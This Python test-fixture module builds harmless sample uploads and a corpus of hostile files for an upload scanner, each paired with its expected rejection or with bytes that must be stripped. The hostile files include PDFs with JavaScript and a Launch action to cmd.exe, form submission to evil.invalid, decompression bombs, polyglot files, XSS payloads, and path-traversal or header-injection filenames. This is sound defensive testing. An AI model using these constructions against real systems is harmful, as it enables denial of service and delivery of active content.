"""Files as people upload them, and a corpus of hostile ones; all made here, none stored."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import lru_cache
from typing import Any

import pikepdf
from PIL import Image

from app.domain import scans

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SECRET = b"<script>alert('hidden')</script>"


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """A file, the name it comes under, and its documented answer: a refusal, or "" when a harmless rest is kept.

    gone  bytes that nothing of what is kept may hold
    """

    name: str
    make: Callable[[], bytes]
    answer: str = ""
    also: tuple[str, ...] = ()
    gone: tuple[bytes, ...] = ()

    @property
    def answers(self) -> set[str]:
        return {self.answer, *self.also}


@lru_cache
def pdf(pages: int = 1, *, text: str = "SCAN (EXAMPLE)") -> bytes:
    """Return a plain PDF."""
    made = io.BytesIO()
    with pikepdf.new() as document:
        for number in range(pages):
            _page(document, f"BT /F1 24 Tf 72 700 Td ({text} {number + 1}) Tj ET".encode())
        document.save(made, deterministic_id=True)
    return made.getvalue()


@lru_cache
def picture(kind: str = "PNG", *, size: tuple[int, int] = (60, 40), mode: str = "RGB", **options: Any) -> bytes:
    """Return a picture of a type."""
    made = io.BytesIO()
    image = Image.new("RGB", size, "white")
    image.paste((180, 20, 20), (5, 5, size[0] // 2, size[1] // 2))
    image.convert(mode).save(made, kind, **options)
    return made.getvalue()


def tiff(pages: int = 1, *, size: tuple[int, int] = (60, 40), mode: str = "1", compression: str = "group4") -> bytes:
    """Return a TIFF of some pages."""
    made = io.BytesIO()
    images = [Image.new(mode, size, 255 if mode in {"1", "L"} else "white") for _ in range(pages)]
    images[0].save(made, "TIFF", save_all=True, append_images=images[1:], compression=compression, dpi=(200, 200))
    return made.getvalue()


def turned_photo(orientation: int = 6) -> bytes:
    """Return a JPEG as a telephone makes it: lying on its side, with a place and a comment in its metadata."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F] = orientation, "Telephone (EXAMPLE)"
    return picture("JPEG", exif=exif.tobytes(), comment=b"taken at home")


def _page(document: pikepdf.Pdf, content: bytes = b"", **more: Any) -> pikepdf.Page:
    page = document.add_blank_page()
    font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name("/Helvetica"))
    page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font), **more)
    page.Contents = document.make_stream(content)
    return page


def _document(change: Callable[[pikepdf.Pdf, pikepdf.Page], Any], **saved: Any) -> Callable[[], bytes]:
    """Return a maker of a one-page PDF that `change` has made hostile."""

    def _make() -> bytes:
        made = io.BytesIO()
        with pikepdf.new() as document:
            change(document, _page(document, b"BT /F1 24 Tf 72 700 Td (HOSTILE) Tj ET"))
            document.save(made, **saved)
        return made.getvalue()

    return _make


def _action(kind: str, **more: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)


SCRIPT = "app.alert('hostile')"


def _annotation(document: pikepdf.Pdf, page: pikepdf.Page, kind: str, **more: Any) -> None:
    page.Annots = document.make_indirect(
        [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(f"/{kind}"), Rect=[0, 0, 99, 99], **more)]
    )


def _open_script(document: pikepdf.Pdf, _page_: pikepdf.Page) -> None:
    document.Root.OpenAction = _action("JavaScript", JS=SCRIPT)


def _named_script(document: pikepdf.Pdf, _page_: pikepdf.Page) -> None:
    tree = pikepdf.Dictionary(Names=[pikepdf.String("go"), _action("JavaScript", JS=SCRIPT)])
    document.Root.Names = pikepdf.Dictionary(JavaScript=tree)


def _page_script(document: pikepdf.Pdf, page: pikepdf.Page) -> None:
    page.AA = pikepdf.Dictionary(O=_action("JavaScript", JS=document.make_stream(SCRIPT.encode())))


def _button_script(document: pikepdf.Pdf, page: pikepdf.Page) -> None:
    _annotation(document, page, "Widget", FT=pikepdf.Name.Btn, A=_action("JavaScript", JS=SCRIPT))
    document.Root.AcroForm = pikepdf.Dictionary(Fields=page.Annots)


def _xfa(document: pikepdf.Pdf, _page_: pikepdf.Page) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=document.make_stream(b"<xdp>" + SECRET + b"</xdp>"))


def _launch(document: pikepdf.Pdf, page: pikepdf.Page) -> None:
    _annotation(document, page, "Link", A=_action("Launch", F="cmd.exe"))


def _link(document: pikepdf.Pdf, page: pikepdf.Page) -> None:
    _annotation(document, page, "Link", A=_action("URI", URI="https://evil.invalid/"))


def _submit(document: pikepdf.Pdf, _page_: pikepdf.Page) -> None:
    document.Root.OpenAction = _action("SubmitForm", F="https://evil.invalid/")


def _chain(document: pikepdf.Pdf, page: pikepdf.Page) -> None:
    following = document.make_indirect(_action("JavaScript", JS=SCRIPT))
    _annotation(document, page, "Link", A=_action("GoTo", D=[page.obj, pikepdf.Name.Fit], Next=following))


def _attachment(document: pikepdf.Pdf, _page_: pikepdf.Page) -> None:
    document.attachments["invoice.exe"] = b"MZ" + EICAR


def _rich_media(document: pikepdf.Pdf, page: pikepdf.Page) -> None:
    content = document.make_stream(b"FWS" + SECRET)
    _annotation(document, page, "RichMedia", RichMediaContent=pikepdf.Dictionary(Assets=content))


def _outside_stream(document: pikepdf.Pdf, page: pikepdf.Page) -> None:
    page.Contents = document.make_stream(b"", F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F="https://evil.invalid/x"))


def _postscript(document: pikepdf.Pdf, page: pikepdf.Page) -> None:
    page.Resources.XObject = pikepdf.Dictionary(
        P=document.make_stream(b"(hostile) run", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.PS)
    )
    page.Contents = document.make_stream(b"/P Do")


def _flate_bomb(document: pikepdf.Pdf, page: pikepdf.Page) -> None:
    page.Contents = document.make_stream(_packed(400), Filter=pikepdf.Name.FlateDecode)


def _nested_bomb(document: pikepdf.Pdf, page: pikepdf.Page) -> None:
    filters = [pikepdf.Name.FlateDecode] * 3
    page.Contents = document.make_stream(zlib.compress(zlib.compress(_packed(600), 9), 9), Filter=filters)


def _many_bombs(document: pikepdf.Pdf, page: pikepdf.Page) -> None:
    packed = _packed(200)
    page.Contents = [document.make_stream(packed, Filter=pikepdf.Name.FlateDecode) for _ in range(8)]


def _run_length_bomb(document: pikepdf.Pdf, page: pikepdf.Page) -> None:
    packed = bytes([129, 0] * 3_000_000 + [128])
    page.Contents = document.make_stream(packed, Filter=pikepdf.Name.RunLengthDecode)


@lru_cache
def _packed(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(megabytes)) + packer.flush()


def _wide_image(document: pikepdf.Pdf, page: pikepdf.Page) -> None:
    image = document.make_stream(
        _packed(1), Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=60_000, Height=60_000,
        ColorSpace=pikepdf.Name.DeviceGray, BitsPerComponent=1, Filter=pikepdf.Name.FlateDecode,
    )  # fmt: skip
    page.Resources.XObject = pikepdf.Dictionary(I=image)


def _laughing_forms(document: pikepdf.Pdf, page: pikepdf.Page) -> None:
    inner = document.make_stream(b"0 0 9 9 re f", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form)
    for _ in range(12):
        resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=inner))
        inner = document.make_stream(
            b"/#58 Do " * 10, Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, Resources=resources
        )
    page.Resources.XObject = pikepdf.Dictionary(X=inner)
    page.Contents = document.make_stream(b"/X Do")


def _form_in_itself(document: pikepdf.Pdf, page: pikepdf.Page) -> None:
    form = document.make_stream(b"/X Do", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form)
    form.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=form))
    page.Resources.XObject = pikepdf.Dictionary(X=form)
    page.Contents = document.make_stream(b"/X Do")


def _raw_pdf(*objects: bytes) -> bytes:
    """Return a PDF of raw objects; the first is the catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Root 1 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


def page_tree_bomb() -> bytes:
    """Return a PDF whose page tree names the same branch ten times on each of seven levels."""
    levels = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(7):
        kids = b" ".join([b"%d 0 R" % (level + 3)] * 10)
        levels.append(b"<< /Type /Pages /Count %d /Kids [%b] >>" % (10 ** (7 - level), kids))
    levels.append(b"<< /Type /Page /MediaBox [0 0 9 9] >>")
    return _raw_pdf(*levels)


def page_tree_loop() -> bytes:
    """Return a PDF whose page tree is its own branch."""
    return _raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 1 /Kids [2 0 R] >>")


def deep_arrays() -> bytes:
    """Return a PDF with an array a hundred thousand levels deep."""
    deep = b"[" * 100_000 + b"]" * 100_000
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Odd 4 0 R >>"
    return _raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>", page, deep)


def object_stream_bomb() -> bytes:
    """Return a PDF with an object stream that unpacks to 600 MB."""
    packed = _packed(600)
    return _raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        b"<< /Type /ObjStm /N 10 /First 80 /Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream"
        % (len(packed), packed),
    )


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """Return a small PNG that says it is huge."""
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    chunks = _png_chunk(b"IHDR", head) + _png_chunk(b"IDAT", _packed(8)) + _png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def png_with(kind: bytes, body: bytes) -> bytes:
    """Return a PNG with one more chunk before its pixels."""
    good = picture("PNG")
    place = good.index(b"IDAT") - 4
    return good[:place] + _png_chunk(kind, body) + good[place:]


def jpeg_with_size(width: int, height: int) -> bytes:
    """Return a JPEG whose frame says another size than it has."""
    good = bytearray(picture("JPEG"))
    place = good.index(b"\xff\xc0") + 5
    good[place : place + 4] = struct.pack(">HH", height, width)
    return bytes(good)


def tiff_bomb() -> bytes:
    """Return a TIFF that says its one page has 10,000 million pixels."""
    tags = ((256, 4, 100_000), (257, 4, 100_000), (258, 3, 1), (259, 3, 1), (262, 3, 1), (273, 4, 8), (279, 4, 8))
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + entries + bytes(4)


def tiff_loop() -> bytes:
    """Return a TIFF whose only page says that it comes again."""
    good = bytearray(tiff())
    (start,) = struct.unpack_from("<I", good, 4)
    (count,) = struct.unpack_from("<H", good, start)
    struct.pack_into("<I", good, start + 2 + 12 * count, start)
    return bytes(good)


def archive(name: str = "hostile.html", content: bytes = SECRET) -> bytes:
    """Return a zip file."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as packed:
        packed.writestr(name, content)
    return made.getvalue()


def _encrypted(**passwords: str) -> bytes:
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(made, encryption=pikepdf.Encryption(**passwords))
    return made.getvalue()


def _jpeg_comment(body: bytes) -> bytes:
    good = picture("JPEG")
    return good[:2] + b"\xff\xfe" + struct.pack(">H", len(body) + 2) + body + good[2:]


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!doctype html>" + SECRET

#: Where time or memory may run out before the reason is found.
SLOW = "scan_too_complex"

HOSTILE: tuple[Hostile, ...] = (
    # not what they say
    Hostile(name="page.pdf", make=lambda: HTML, answer="scan_wrong_type"),
    Hostile(name="drawing.png", make=lambda: SVG, answer="scan_wrong_type"),
    Hostile(name="letter.pdf", make=lambda: archive("word/document.xml"), answer="scan_wrong_type"),
    Hostile(name="program.pdf", make=lambda: b"MZ" + EICAR * 9, answer="scan_wrong_type"),
    Hostile(name="program.png", make=lambda: b"\x7fELF" + bytes(200), answer="scan_wrong_type"),
    Hostile(name="picture.jpg", make=lambda: picture("GIF"), answer="scan_wrong_type"),
    Hostile(name="picture.tif", make=lambda: picture("WEBP"), answer="scan_wrong_type"),
    Hostile(name="text.pdf", make=lambda: b"plain text" * 30, answer="scan_wrong_type"),
    Hostile(name="zeros.tif", make=lambda: bytes(5000), answer="scan_wrong_type"),
    Hostile(name="postscript.pdf", make=lambda: b"%!PS-Adobe-3.0\n(hostile) run", answer="scan_wrong_type"),
    # too large, empty
    Hostile(name="empty.pdf", make=lambda: b"", answer="scan_empty"),
    Hostile(name="large.pdf", make=lambda: pdf() + bytes(scans.MAX_BYTES), answer="scan_too_large"),
    Hostile(name="long.pdf", make=lambda: pdf(scans.MAX_PAGES + 1), answer="scan_too_many_pages"),
    Hostile(name="long.tif", make=lambda: tiff(scans.MAX_PAGES + 1), answer="scan_too_many_pages"),
    # broken
    Hostile(name="head.pdf", make=lambda: b"%PDF-1.7\n" + bytes(500), answer="scan_damaged"),
    Hostile(name="cut.jpg", make=lambda: picture("JPEG", size=(600, 400))[:-200], answer="scan_damaged"),
    Hostile(name="cut.png", make=lambda: picture("PNG", size=(600, 400))[:-30], answer="scan_damaged"),
    Hostile(name="cut.tif", make=lambda: tiff(size=(900, 900))[:20], answer="scan_damaged"),
    Hostile(name="wrong-sum.png", make=lambda: picture("PNG").replace(b"IDATx", b"IDATy"), answer="scan_damaged"),
    Hostile(name="loop.pdf", make=page_tree_loop, answer="scan_damaged"),
    Hostile(name="deep.pdf", make=deep_arrays, answer="", also=("scan_damaged", SLOW)),
    # bombs
    Hostile(name="bomb.pdf", make=_document(_flate_bomb), answer="scan_unpacks_too_far", also=(SLOW,)),
    Hostile(name="nested.pdf", make=_document(_nested_bomb), answer="scan_unpacks_too_far", also=(SLOW,)),
    Hostile(name="many.pdf", make=_document(_many_bombs), answer="scan_unpacks_too_far", also=(SLOW,)),
    Hostile(name="runs.pdf", make=_document(_run_length_bomb), answer="scan_unpacks_too_far", also=(SLOW,)),
    Hostile(name="laughs.pdf", make=_document(_laughing_forms), answer="scan_unpacks_too_far"),
    Hostile(name="itself.pdf", make=_document(_form_in_itself), answer="scan_unpacks_too_far"),
    Hostile(name="tree.pdf", make=page_tree_bomb, answer="scan_damaged", also=("scan_too_many_pages", SLOW)),
    Hostile(name="objects.pdf", make=object_stream_bomb, answer="scan_unpacks_too_far", also=(SLOW,)),
    Hostile(name="wide.pdf", make=_document(_wide_image), answer="scan_too_many_pixels"),
    Hostile(name="bomb.png", make=png_bomb, answer="scan_too_many_pixels"),
    Hostile(name="bomb.jpg", make=lambda: jpeg_with_size(65_000, 65_000), answer="scan_too_many_pixels"),
    Hostile(name="bomb.tif", make=tiff_bomb, answer="scan_too_many_pixels"),
    Hostile(name="text-bomb.png", make=lambda: png_with(b"zTXt", b"k\0\0" + _packed(400)), gone=(b"zTXt",)),
    Hostile(name="profile.png", make=lambda: png_with(b"iCCP", b"k\0\0" + _packed(400)), gone=(b"iCCP",)),
    Hostile(name="again.tif", make=tiff_loop, answer="", also=("scan_damaged",)),
    # protected
    Hostile(name="locked.pdf", make=lambda: _encrypted(user="a", owner="b"), answer="scan_encrypted"),
    Hostile(name="no-copying.pdf", make=lambda: _encrypted(user="", owner="b"), answer="scan_encrypted"),
    # active
    Hostile(name="open.pdf", make=_document(_open_script), gone=(b"JavaScript", b"hostile")),
    Hostile(name="named.pdf", make=_document(_named_script), gone=(b"JavaScript", b"hostile")),
    Hostile(name="page-script.pdf", make=_document(_page_script), gone=(b"JavaScript", b"alert")),
    Hostile(name="button.pdf", make=_document(_button_script), gone=(b"JavaScript", b"AcroForm")),
    Hostile(name="xfa.pdf", make=_document(_xfa), gone=(b"XFA", SECRET)),
    Hostile(name="launch.pdf", make=_document(_launch), gone=(b"Launch", b"cmd.exe")),
    Hostile(name="link.pdf", make=_document(_link), gone=(b"evil.invalid",)),
    Hostile(name="submit.pdf", make=_document(_submit), gone=(b"evil.invalid",)),
    Hostile(name="chain.pdf", make=_document(_chain), gone=(b"JavaScript",)),
    Hostile(name="attachment.pdf", make=_document(_attachment), gone=(b"EmbeddedFile", EICAR)),
    Hostile(name="film.pdf", make=_document(_rich_media), gone=(b"RichMedia", SECRET)),
    Hostile(name="outside.pdf", make=_document(_outside_stream), gone=(b"evil.invalid",)),
    Hostile(name="postscript-part.pdf", make=_document(_postscript), gone=(b"/PS", b"hostile) run")),
    Hostile(
        name="hidden-script.pdf",
        make=_document(_open_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        gone=(b"JavaScript", b"hostile"),
    ),
    # two files in one
    Hostile(name="pdf-zip.pdf", make=lambda: pdf() + archive(), gone=(b"PK\x03\x04", SECRET)),
    Hostile(name="jpg-zip.jpg", make=lambda: picture("JPEG") + archive(), gone=(b"PK\x03\x04", SECRET)),
    Hostile(name="png-zip.png", make=lambda: picture("PNG") + archive(), gone=(b"PK\x03\x04", SECRET)),
    Hostile(name="tif-zip.tif", make=lambda: tiff() + archive(), gone=(b"PK\x03\x04", SECRET)),
    Hostile(name="gif-pdf.pdf", make=lambda: picture("GIF") + pdf(), answer="scan_wrong_type"),
    Hostile(name="html-pdf.pdf", make=lambda: HTML + pdf(), answer="scan_wrong_type"),
    Hostile(name="jpg-pdf.jpg", make=lambda: _jpeg_comment(pdf()), gone=(b"%PDF",)),
    Hostile(name="jpg-html.jpg", make=lambda: _jpeg_comment(HTML), gone=(SECRET,)),
    Hostile(name="png-html.png", make=lambda: png_with(b"tEXt", b"k\0" + SECRET), gone=(SECRET,)),
    Hostile(name="png-pdf.png", make=lambda: png_with(b"prIv", pdf()), gone=(b"%PDF",)),
    # names that want out, or to be taken for another
    Hostile(name="../../../etc/passwd", make=pdf),
    Hostile(name="..\\..\\windows\\system32\\evil.pdf", make=pdf),
    Hostile(name="/etc/cron.d/evil.png", make=picture),
    Hostile(name="invoice.pdf.exe", make=pdf),
    Hostile(name="invoice\u202efdp.exe", make=pdf),
    Hostile(name="a" * 4000 + ".pdf", make=pdf),
    Hostile(name="<img src=x onerror=alert(1)>.pdf", make=pdf),
    Hostile(name="line\r\nSet-Cookie: a=b.pdf", make=pdf),
    Hostile(name="CON", make=pdf),
    Hostile(name="....", make=pdf),
)
